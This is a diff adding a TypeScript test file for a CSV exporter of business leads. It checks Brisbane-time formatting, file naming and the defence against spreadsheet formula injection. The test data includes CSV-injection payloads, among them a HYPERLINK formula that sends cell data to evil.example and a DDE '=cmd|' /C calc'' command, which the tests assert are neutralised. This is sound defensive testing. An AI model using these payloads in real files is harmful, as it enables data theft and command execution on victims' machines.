@@ -1,0 +1,184 @@
+import { execFileSync } from "node:child_process";
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { csvFileName, csvStart, renderCsvRow } from "./lead-csv.ts";
+import type { ExportedLead } from "./lead-list-store.server.ts";
+
+const lead: ExportedLead = {
+	...{ id: 7, website: "https://reef.example/a,b", businessName: 'The "Reef" Café', contactName: "Nguyễn O'Brien", email: "a@b.example" },
+	...{ packageName: null, source: "hire_us", status: "won", flagged: false, mail: "done", earlierLeadId: null, laterLeadId: null },
+	...{ keywords: "coffee\r\nbreakfast; tea", startDate: "2026-12-01" },
+	...{ createdAt: "2026-11-14T14:04:05.678Z", answeredAt: "2026-11-15T00:00:00.000Z" },
+};
+
+test("begins with the byte order mark and the titles", () => {
+	expect(csvStart.charCodeAt(0)).toBe(0xfeff);
+	expect(parseCsv(csvStart.slice(1))).toEqual([
+		...[
+			["Lead", "Received (Brisbane)", "Status", "Answered (Brisbane)", "Business", "Contact", "Email", "Website", "Package"].concat([
+				...["Keywords", "Preferred start", "Source", "Mail", "Spam", "Earlier lead"],
+			]),
+		],
+	]);
+});
+
+test("a lead reads back as it was stored, its times in Queensland", () => {
+	expect(parseCsv(renderCsvRow(lead))).toEqual([
+		[
+			...["7", "2026-11-15 00:04:05", "Won", "2026-11-15 10:00:00", 'The "Reef" Café', "Nguyễn O'Brien", "a@b.example"],
+			...["https://reef.example/a,b", "", "coffee\r\nbreakfast; tea", "2026-12-01", "Hire us", "Sent", "no", ""],
+		],
+	]);
+	expect(renderCsvRow(lead).endsWith("\r\n")).toBe(true);
+});
+
+test("says in words where a lead came from and what became of its mail, and each package once", () => {
+	const [row] = parseCsv(
+		renderCsvRow({ ...lead, packageName: "Pro (SEO)", keywords: "coffee [Package: Pro (SEO)]", source: "get_started", mail: "parked" }),
+	);
+	expect(row?.slice(8, 13)).toEqual(["Pro (SEO)", "coffee", "2026-12-01", "Get started", "Given up"]);
+	const [other] = parseCsv(renderCsvRow({ ...lead, packageName: "B", keywords: "[Package: B] coffee", source: "hero", mail: null }));
+	expect(other?.slice(8, 13)).toEqual(["B", "[Package: B] coffee", "2026-12-01", "Free analysis", ""]);
+});
+
+test.each(["UTC", "America/New_York", "Pacific/Apia"])("shows the time of Brisbane on a server in %s, as the list does", (zone) => {
+	const script = `
+		import { csvFileName, renderCsvRow } from "./lead-csv.ts";
+		import { formatShortDay } from "#app/desk/dashboard/format-short-day.ts";
+		import { formatAgo } from "#app/desk/format-ago.ts";
+		import { listActiveFilters } from "./list-active-filters.ts";
+		import { monthDays } from "./month-days.ts";
+		import { EVERY_LEAD } from "./lead-filter.ts";
+		import { formatMoment } from "#app/site/brisbane-time.ts";
+		const received = "2026-11-14T14:04:05.678Z";
+		const now = new Date("2026-11-30T14:30:00Z");
+		const csv = renderCsvRow({ ...${JSON.stringify(lead)}, createdAt: received });
+		const chips = listActiveFilters({ ...EVERY_LEAD, from: "2026-11-01" }).map(({ label }) => label);
+		const list = [formatMoment(received), formatAgo(received, now), formatShortDay("2026-11-15"), ...chips, monthDays(now).thisMonth.from];
+		process.stdout.write(JSON.stringify({ hour: new Date(received).getHours(), csv, file: csvFileName(now), list }));`;
+	const options = { env: { ...process.env, TZ: zone }, encoding: "utf8" } as const;
+	const shown = JSON.parse(execFileSync(process.execPath, ["--input-type=module-typescript", "--eval", script], options));
+	expect(shown.hour).not.toBe(0);
+	expect(parseCsv(shown.csv)[0]?.slice(1, 4)).toEqual(["2026-11-15 00:04:05", "Won", "2026-11-15 10:00:00"]);
+	expect(shown.file).toBe("leads-2026-12-01.csv");
+	expect(shown.list.map((text: string) => text.replace(/\s/g, " "))).toEqual([
+		...["15 Nov 2026, 12:04 am", expect.stringMatching(/15 Nov|16 days/), "Sun 15 Nov", "From 1 November 2026", "2026-12-01"],
+	]);
+});
+
+test.each([
+	...["=1+1", "+61 7 3000 0000", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "\u0000x"],
+	...['=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "@home Cafe", "-"],
+	...["＝1+1", "＋1", "－1", "＠x"],
+])("puts an apostrophe before %j", (text) => {
+	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: text, keywords: text }));
+	expect([row?.[4], row?.[9]]).toEqual([`'${text}`, `'${text}`]);
+});
+
+test.each([
+	...["Joe;~=cmd|' /C calc'!A0", "Joe; ~=1", "Joe,~-5%", "Joe\t~@SUM(A1)", "Joe|~+1", "Joe:~=1", "Joe\r\n~=1", "Joe\u2028~=1"],
+	...['Joe;"~=1', 'Joe;" "~=1', "Joe;\u200b~=1", "Joe;\ufeff~＝1", "Joe ~=1", "Joe ~=", "Joe;~=1;~=2"],
+	...[" ~=1+1", "\u00a0~=1+1", '"~=1+1"', ' "~+1', "\u200b~=1+1", "\ufeff~=1+1", "\u202e~=1+1"],
+])("neutralises a formula wherever a spreadsheet could start a cell: %j", (marked) => {
+	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: marked.replaceAll("~", "") }));
+	expect(row?.[4]).toBe(marked.replaceAll("~", "'"));
+});
+
+test.each([
+	...["Reef Café", "a=b", "1-2-3 Plumbing", "O'Brien", "'quoted", "50% off", "https://a.example/?a=-1", ""],
+	...["Reef Café - Brisbane", "salt & pepper; fish, chips", "https://social.example/@reef", "50 - 60 covers"],
+])("leaves %j as it is", (text) => {
+	expect(parseCsv(renderCsvRow({ ...lead, businessName: text }))[0]?.[4]).toBe(text);
+});
+
+const hostileText = fc.string({ unit: fc.constantFrom(..."=+-@ \t\r\n,;:|\"'a＝🦘\u0000\u200b\u00a0") });
+
+test("a row is one row of fifteen fields, whatever visitors write, and adds nothing but apostrophes", () => {
+	fc.assert(
+		fc.property(hostileText, hostileText, (businessName, keywords) => {
+			const rows = parseCsv(renderCsvRow({ ...lead, businessName, keywords }));
+			expect(rows).toHaveLength(1);
+			expect(rows[0]).toHaveLength(15);
+			expect([rows[0]?.[4], rows[0]?.[9]].map(withoutApostrophes)).toEqual([businessName, keywords].map(withoutApostrophes));
+		}),
+	);
+});
+
+test("no spreadsheet finds a formula, whatever separator it splits on and whether it respects our quotes", () => {
+	fc.assert(
+		fc.property(hostileText, hostileText, hostileText, (businessName, contactName, keywords) => {
+			const line = renderCsvRow({ ...lead, businessName, contactName, keywords });
+			for (const separator of [",", ";", "\t", "|", ":", " ", '"']) {
+				for (const respectsQuotes of [true, false]) {
+					const formulas = splitCells(line, { separator, respectsQuotes }).filter(isFormula);
+					expect(formulas, JSON.stringify({ separator, respectsQuotes, line })).toEqual([]);
+				}
+			}
+		}),
+		{ numRuns: 2_000 },
+	);
+});
+
+test("takes time in proportion to the text, however hostile", () => {
+	const time = (text: string) => {
+		const start = performance.now();
+		renderCsvRow({ ...lead, keywords: text });
+		return performance.now() - start;
+	};
+	for (const unit of [" ", '"', '" ', "\t", ' "=', "\u200b "])
+		expect(time(`a${unit.repeat(20_000)}=`), JSON.stringify(unit)).toBeLessThan(200);
+});
+
+test("the file is named after the day in Queensland", () => {
+	expect(csvFileName(new Date("2026-11-14T14:00:00Z"))).toBe("leads-2026-11-15.csv");
+	expect(csvFileName(new Date("2026-11-14T13:59:59Z"))).toBe("leads-2026-11-14.csv");
+});
+
+/** RFC 4180 to the letter: throws on anything that is not. */
+function parseCsv(text: string): string[][] {
+	const rows: string[][] = [];
+	let row: string[] = [];
+	let rest = text;
+	while (rest !== "") {
+		const [whole = "", quoted, bare, end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
+		if (whole === "") throw new Error(`not RFC 4180: ${JSON.stringify(rest.slice(0, 40))}`);
+		row.push(quoted?.replaceAll('""', '"') ?? bare ?? "");
+		if (end === "\r\n") {
+			rows.push(row);
+			row = [];
+		}
+		rest = rest.slice(whole.length);
+	}
+	return rows;
+}
+
+/** The cells a spreadsheet would make of the text. Quotes count only at the start of a cell, as in Excel and LibreOffice. */
+function splitCells(text: string, { separator, respectsQuotes }: { separator: string; respectsQuotes: boolean }): string[] {
+	if (!respectsQuotes) return text.split(/\r\n|[\r\n\u2028\u2029\u0085\v\f]/).flatMap((line) => line.split(separator));
+	const cells: string[] = [];
+	let cell = "";
+	let isQuoted = false;
+	let isStart = true;
+	for (let at = 0; at < text.length; at += 1) {
+		const character = text[at] ?? "";
+		if (isQuoted && character === '"' && text[at + 1] === '"') {
+			cell += '"';
+			at += 1;
+		} else if (isQuoted && character === '"') isQuoted = false;
+		else if (isStart && character === '"') [isQuoted, isStart] = [true, false];
+		else if (!isQuoted && [separator, "\r", "\n"].includes(character)) {
+			cells.push(cell);
+			[cell, isStart] = ["", true];
+		} else [cell, isStart] = [cell + character, false];
+	}
+	return [...cells, cell];
+}
+
+/** Spaces, quotes and invisible characters are skipped, as some spreadsheets do. A sign on its own is text everywhere. */
+function isFormula(cell: string): boolean {
+	return /^[\s\p{Cf}"]*[=+\-@＝＋－＠](?!\s*$)/u.test(cell);
+}
+
+function withoutApostrophes(text: string | undefined): string {
+	return (text ?? "").replaceAll("'", "");
+}
